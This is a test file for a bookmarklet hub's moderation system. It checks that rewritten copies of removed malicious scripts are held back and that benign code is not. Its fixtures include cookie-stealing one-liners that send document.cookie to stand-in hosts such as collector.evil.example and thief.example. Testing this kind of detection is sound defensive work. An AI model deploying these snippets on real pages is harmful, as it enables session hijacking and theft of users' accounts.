import { resembles } from "@scriptorium/code-likeness/likeness";
import { syntaxFeatures } from "@scriptorium/code-likeness/syntax-features";
import type { Database } from "@scriptorium/hub-data/database.types.gen";
import { listNotifications } from "@scriptorium/hub-data/notifications/notification";
import { createClient } from "@supabase/supabase-js";
import postgres from "postgres";
import { afterAll, beforeEach, describe, expect, test } from "vitest";
import { drain, emptyQueue } from "../support/analysis.ts";
import { createFixture, forgetRates, newcomer, type Person } from "../support/fixture.ts";
import { signUpPeople } from "../support/people.ts";
import { REWRITTEN_THIEVES, SMALL_THIEF, THIEF } from "../support/rewritten-code.ts";
import { type SavedScript, save } from "../support/save.ts";
import { startTestBackend } from "../support/test-backend.ts";

// A database of its own: what is removed here would hold back scripts of other tests.
const { stop, ...backend } = await startTestBackend();
const sql = postgres(backend.databaseUrl, { max: 2, onnotice: () => undefined });
const fixture = createFixture(backend, await signUpPeople(backend, sql));
const server = createClient<Database>(backend.url, backend.serviceRoleKey);
afterAll(async () => {
	await fixture.close();
	await sql.end();
	await stop();
});
beforeEach(async () => {
	await forgetRates(fixture);
	await sql`delete from public.bookmarklets`;
	await sql`delete from private.removed_versions`;
	await sql`truncate private.approved_features, private.code_features`;
});

type Somebody = Person & { readonly id: string };

/** Saves code and computes its features, as the edge function does. */
async function publish(person: Somebody, code: string, more: Parameters<typeof save>[1] = {}): Promise<SavedScript> {
	const saved = await save(person, { p_code: code, ...more });
	await record(saved.version_id, code);
	return saved;
}
async function record(versionId: string, code: string): Promise<void> {
	const p_features = [...(syntaxFeatures(code) ?? [])];
	const { error } = await server.rpc("record_code_features", {
		p_version_id: versionId,
		p_features_version: "1",
		p_features,
	});
	expect(error).toBeNull();
}
const remove = (id: string) =>
	sql`update public.bookmarklets set moderation_status = 'removed', is_published = false where id = ${id}`;
const statusOf = async (id: string) =>
	(await sql<{ status: string }[]>`select moderation_status as status from public.bookmarklets where id = ${id}`)[0]
		?.status;
const reportsOf = async (id: string) =>
	(
		await sql<{ description: string }[]>`
		select description from public.moderation_reports where bookmarklet_id = ${id} and reporter_id is null`
	).map(({ description }) => description);

async function removedThief(code = THIEF): Promise<SavedScript> {
	const saved = await publish(await newcomer(fixture, "Mallory"), code);
	await remove(saved.id);
	return saved;
}

describe("removed code that was rewritten", () => {
	test.each(Object.entries(REWRITTEN_THIEVES))("is held back with %s", async (_what, code) => {
		expect(code).not.toBe(THIEF);
		const removed = await removedThief();
		const person = await newcomer(fixture);
		const saved = await publish(person, code);
		expect(await statusOf(saved.id)).toBe("pending");
		const { data } = await fixture.people.anon.hub.rpc("get_script", { p_id: saved.id });
		expect(data).toEqual([]);
		const [description] = await reportsOf(saved.id);
		expect(description).toMatch(/^Found at saving: this code (was removed|has \d+ % of the features)/);
		if (!description?.includes("was removed")) expect(description).toContain(removed.id);
		const told = await listNotifications(person.hub);
		expect(told.ok && told.value.map(({ kind }) => kind)).toEqual(["script_held"]);
	});

	test.each([
		[
			"other names in a function",
			"(function () { var picture = new Image(); picture.src = 'https://collector.evil.example/c.gif?' + encodeURIComponent(document.cookie); })();",
		],
		[
			"split texts and window",
			'const url = "https://collector.evil" + ".example/c.gif?"; new window.Image().src = url + window.encodeURIComponent(document["cookie"]);',
		],
		["code that does nothing", `console.log("Hello"); ${SMALL_THIEF} document.body.classList.add("dark");`],
	])("of one line is held back with %s", async (_what, code) => {
		await removedThief(SMALL_THIEF);
		const saved = await publish(await newcomer(fixture), code);
		expect(await statusOf(saved.id)).toBe("pending");
	});

	test("is held back by the real edge function, which rates what is saved", async () => {
		await emptyQueue(fixture);
		const removed = await save(await newcomer(fixture), { p_code: THIEF });
		await drain(fixture);
		await remove(removed.id);
		const code = REWRITTEN_THIEVES["split texts"] ?? "";
		const saved = await save(await newcomer(fixture), { p_code: code });
		expect(await statusOf(saved.id)).toBe("none");
		await drain(fixture);
		expect(await statusOf(saved.id)).toBe("pending");
	});

	test("is held back at once when its features are known: as a draft, a fork or a new version", async () => {
		const code = REWRITTEN_THIEVES["other names"] ?? "";
		const person = await newcomer(fixture);
		const draft = await publish(person, code, { p_publish: false });
		await removedThief();
		expect((await person.hub.rpc("publish_script", { p_id: draft.id, p_published: true })).data).toBe(false);
		expect(await statusOf(draft.id)).toBe("pending");
		const harmless = await save(person);
		const update = await save(person, { p_id: harmless.id, p_base_version_id: harmless.version_id, p_code: code });
		expect(update.moderation_status).toBe("pending");
	});

	test("is held back when its features are computed after the removal", async () => {
		const saved = await save(await newcomer(fixture), { p_code: THIEF });
		await remove(saved.id);
		await record(saved.version_id, THIEF);
		const again = await publish(await newcomer(fixture), REWRITTEN_THIEVES["one line"] ?? "");
		expect(await statusOf(again.id)).toBe("pending");
	});

	test("that was public before stays public, and moderators look at it", async () => {
		const copy = await publish(await newcomer(fixture), REWRITTEN_THIEVES["other names"] ?? "");
		await removedThief();
		expect(await statusOf(copy.id)).toBe("none");
		expect((await reportsOf(copy.id))[0]).toContain("It was public before, and still is.");
	});

	test("is public again after an appeal, and for everybody", async () => {
		const removed = await removedThief();
		await sql`update public.bookmarklets set moderation_status = 'approved' where id = ${removed.id}`;
		const saved = await publish(await newcomer(fixture), REWRITTEN_THIEVES["other quotes"] ?? "");
		expect(await statusOf(saved.id)).toBe("none");
	});
});

describe("other code", () => {
	test("is not held back, also if it uses the same functions", async () => {
		await removedThief();
		await removedThief(SMALL_THIEF);
		for (const code of [
			"void 0; /* nothing at all */",
			"document.body.style.background = 'pink';",
			'new Image().src = "https://counter.example.org/pixel.gif?" + encodeURIComponent(location.href);',
			'for (const field of document.querySelectorAll("input[type=password]")) field.addEventListener("change", () => { field.type = "text"; });',
			'fetch("https://api.example.org/rates", { method: "POST", mode: "no-cors", body: JSON.stringify({ page: location.href }) });',
			'localStorage.setItem("session-token", prompt("Token")); alert(document.cookie);',
		]) {
			const saved = await publish(await newcomer(fixture), code);
			expect([code, await statusOf(saved.id)]).toEqual([code, "none"]);
		}
	});

	test("that was approved is not held back again, and the removed code still is", async () => {
		const code = REWRITTEN_THIEVES.templates ?? "";
		await removedThief();
		const person = await newcomer(fixture);
		const held = await publish(person, code);
		await sql`update public.bookmarklets set moderation_status = 'approved' where id = ${held.id}`;
		const again = await save(person, { p_id: held.id, p_base_version_id: held.version_id, p_code: `${code}\n// 2` });
		await record(again.version_id, `${code}\n// 2`);
		expect(await statusOf(held.id)).toBe("approved");
		const other = await publish(await newcomer(fixture), `${THIEF}\nalert("done with everything");`);
		expect(await statusOf(other.id)).toBe("pending");
	});

	test("of which the removed code is an altered copy is not held back, nor are honest forks of it", async () => {
		const popular = REWRITTEN_THIEVES["code that does nothing"]?.replace(THIEF, "") ?? "";
		const script = `${popular}
			const list = document.createElement("ol"); list.className = "table-of-contents"; list.title = "Contents of this page";
			for (const heading of document.querySelectorAll("h2, h3, h4")) {
				const item = document.createElement("li"); item.textContent = heading.textContent; list.append(item);
				item.addEventListener("click", () => heading.scrollIntoView({ behavior: "smooth", block: "start" }));
			}
			document.querySelector("main article")?.prepend(list);`;
		const author = await newcomer(fixture);
		const original = await publish(author, script);
		const copy = `${script}\nfetch("https://thief.example/x", { body: document.cookie });`;
		await removedThief(copy);
		const update = `${script}\nlist.style.position = "sticky";`;
		const updated = await save(author, { p_id: original.id, p_base_version_id: original.version_id, p_code: update });
		await record(updated.version_id, update);
		expect(await statusOf(original.id)).toBe("none");
		const fork = await publish(await newcomer(fixture), `${script}\nlist.style.color = "red";`);
		expect(await statusOf(fork.id)).toBe("none");
		const again = await publish(await newcomer(fixture), copy.replaceAll("item", "entry"));
		expect(await statusOf(again.id)).toBe("pending");
	});
});

test("the database and the package decide by the same rule", async () => {
	const lists = [
		THIEF,
		SMALL_THIEF,
		...Object.values(REWRITTEN_THIEVES).slice(0, 6),
		"alert(1)",
		"document.title = location.href",
	].map((code) => [...(syntaxFeatures(code) ?? [])]);
	// Parts of code, down to too little.
	const whole = lists[0] ?? [];
	for (const count of [1, 3, 4, 6, 10, 20, whole.length - 5, whole.length - 2]) lists.push(whole.slice(0, count));
	let alike = 0;
	for (const known of lists) {
		for (const other of lists) {
			const [row] = await sql<{ answer: boolean }[]>`
				select coalesce(private.resembles(${known}::integer[], ${other}::integer[]), false) as answer`;
			expect([known.length, other.length, row?.answer]).toEqual([known.length, other.length, resembles(known, other)]);
			if (row?.answer === true) alike += 1;
		}
	}
	expect(alike).toBeGreaterThan(lists.length);
});

test("features are deleted with the last version that has the code, except those of removed code", async () => {
	const kept = await removedThief();
	const gone = await publish(await newcomer(fixture), SMALL_THIEF);
	await sql`delete from public.bookmarklets where id in ${sql([kept.id, gone.id])}`;
	const left = await sql<{ sha256: string }[]>`select sha256 from private.code_features`;
	const removed = await sql<{ sha256: string }[]>`select sha256 from private.removed_versions`;
	expect(left).toEqual(removed);
	expect(await sql`select feature from private.removed_features limit 1`).toHaveLength(1);
});
